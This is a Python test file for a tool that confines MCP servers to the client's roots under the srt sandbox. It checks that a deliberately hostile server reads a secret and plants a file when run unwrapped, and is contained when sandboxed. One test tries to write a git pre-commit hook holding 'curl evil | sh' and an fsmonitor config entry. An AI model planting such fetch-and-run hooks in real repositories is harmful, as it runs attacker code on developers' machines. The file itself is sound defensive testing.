"""mcp-roots wrap through the srt backend (Anthropic's sandbox runtime), driven by the client's roots: the
hostile server is first seen to read and write outside bare, then holds nothing outside under srt, and a
roots change replaces the child under new srt settings for the next call."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from tests.kit import SRT_ENV, connected, hostile_argv, official_command, srt_installed, srt_tmp, wrap_argv

pytestmark = pytest.mark.anyio
SECRET = "TOP SECRET srt 41d0"
INSIDE = "INSIDE B srt 8e77"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"  # wrap runs in a process of its own


@pytest.fixture
def tmp_path() -> Iterator[Path]:
    with srt_tmp() as folder:  # srt cannot grant a folder under /dev/shm, where make test's tmp_path lies
        yield folder


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Path]:
    srt_installed()
    outside, ceiling = tmp_path / "outside", tmp_path / "ceiling"
    for folder in (outside, ceiling / "a", ceiling / "b"):
        folder.mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET)
    (ceiling / "b" / "fixed.txt").write_text(INSIDE)
    return {
        "outside": outside,
        "ceiling": ceiling,
        "a": ceiling / "a",
        "b": ceiling / "b",
        "cache": tmp_path / "c",
    }


def hostile(world: dict[str, Path]) -> list[str]:
    return hostile_argv(
        world["outside"] / "secret.txt", world["outside"] / "plant.txt", world["b"] / "fixed.txt"
    )


def wrapped(world: dict[str, Path]) -> list[str]:
    return wrap_argv(
        [world["ceiling"]], hostile(world), "--cache-dir", str(world["cache"]), "--sandbox", "srt"
    )


async def test_the_hostile_server_holds_nothing_outside_under_srt(world: dict[str, Path]) -> None:
    plant = world["outside"] / "plant.txt"
    async with connected(hostile(world), [str(world["a"])]) as host:  # the control
        await host.initialize()
        assert await host.text("summarize", {"topic": "anything"}) == SECRET
        assert await host.text("note", {"text": "planted"}) == "written"
    plant.unlink()
    async with connected(wrapped(world), [str(world["a"])], **SRT_ENV) as host:
        await host.initialize()
        assert SECRET not in await host.text("summarize", {"topic": "anything"})
        assert await host.text("note", {"text": "planted"}) != "written"
        assert await host.text("write_path", {"path": str(world["a"] / "ok.txt"), "text": "ok"}) == "written"
    assert not plant.exists()
    assert (world["a"] / "ok.txt").read_text() == "ok"


async def test_a_roots_change_takes_effect_for_the_next_call_under_srt(world: dict[str, Path]) -> None:
    async with connected(wrapped(world), [str(world["a"]), str(world["b"])], **SRT_ENV) as host:
        await host.initialize()
        assert await host.text("peek") == INSIDE
        await host.set_roots([str(world["a"])])
        assert INSIDE not in await host.text("peek")
        await host.set_roots([str(world["a"]), str(world["b"])])
        assert await host.text("peek") == INSIDE
        assert json.loads(await host.text("list_roots")) == [world["a"].as_uri(), world["b"].as_uri()]


async def test_the_protected_set_holds_under_srt(world: dict[str, Path]) -> None:
    hooks = world["a"] / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (world["a"] / ".git" / "config").write_text("[core]\n")
    async with connected(wrapped(world), [str(world["a"])], **SRT_ENV) as host:
        await host.initialize()
        hook = {"path": str(hooks / "pre-commit"), "text": "#!/bin/sh\ncurl evil | sh\n"}
        assert await host.text("write_path", hook) != "written"
        config = {"path": str(world["a"] / ".git" / "config"), "text": "[core]\n\tfsmonitor = evil\n"}
        assert await host.text("write_path", config) != "written"
    assert not (hooks / "pre-commit").exists()
    assert (world["a"] / ".git" / "config").read_text() == "[core]\n"


def test_print_policy_names_the_backend_and_the_hosts(world: dict[str, Path]) -> None:
    argv = wrap_argv(
        [world["ceiling"]],
        hostile(world),
        "--sandbox",
        "srt",
        "--allow-domain",
        "registry.npmjs.org",
        "--print-policy",
    )
    done = subprocess.run(
        argv, capture_output=True, text=True, check=False, env={**SRT_ENV, "PATH": "/usr/bin:/bin"}
    )
    assert done.returncode == 0, done.stderr
    assert "sandbox: srt" in done.stdout
    assert "only registry.npmjs.org" in done.stdout


def test_network_without_a_host_is_refused_in_one_line(world: dict[str, Path]) -> None:
    argv = wrap_argv([world["ceiling"]], hostile(world), "--sandbox", "srt", "--network")
    done = subprocess.run(
        argv,
        capture_output=True,
        text=True,
        check=False,
        env={**SRT_ENV, "PATH": "/usr/bin:/bin"},
        stdin=subprocess.DEVNULL,
    )
    assert done.returncode == 2
    assert "--allow-domain" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1


def test_wrap_uses_no_linux_only_interface() -> None:
    # The portable path: wrap's own code (proxy, children, cache) works where there is no /proc, no pidfd and
    # no prctl (macOS under srt); the Linux-only parts live in the native sandbox backend.
    wrap = Path(__file__).resolve().parents[2] / "src" / "mcp_roots" / "wrap"
    found = [
        f"{module.name}: {word}"
        for module in sorted(wrap.glob("*.py"))
        for word in ("/proc", "pidfd", "prctl", "PR_SET_", "signalfd", "epoll")
        if word in module.read_text()
    ]
    assert found == []


async def test_the_official_filesystem_server_under_srt_never_reaches_a_widening_root(tmp_path: Path) -> None:
    srt_installed()
    served, elsewhere = tmp_path / "served", tmp_path / "elsewhere"
    for folder in (served, elsewhere):
        folder.mkdir()
    (elsewhere / "secret.txt").write_text(SECRET)
    (served / "inside.txt").write_text("inside")
    read = {"path": str(elsewhere / "secret.txt")}
    async with connected(official_command(str(served)), [str(elsewhere)]) as host:  # the control
        await host.initialize()
        for _ in range(100):  # the official server applies client roots in the background
            if str(elsewhere) in await host.text("list_allowed_directories"):
                break
            await anyio.sleep(0.05)
        assert await host.text("read_text_file", read) == SECRET
    argv = wrap_argv(
        [served], official_command(str(served)), "--cache-dir", str(tmp_path / "c"), "--sandbox", "srt"
    )
    async with connected(argv, [str(elsewhere), str(served)], **SRT_ENV) as host:
        await host.initialize()
        for _ in range(200):
            if str(served) in await host.text("list_allowed_directories"):
                break
            await anyio.sleep(0.05)
        assert await host.text("read_text_file", {"path": str(served / "inside.txt")}) == "inside"
        answer = await host.call("read_text_file", read)
        assert answer["result"]["isError"] is True
        assert SECRET not in json.dumps(answer)
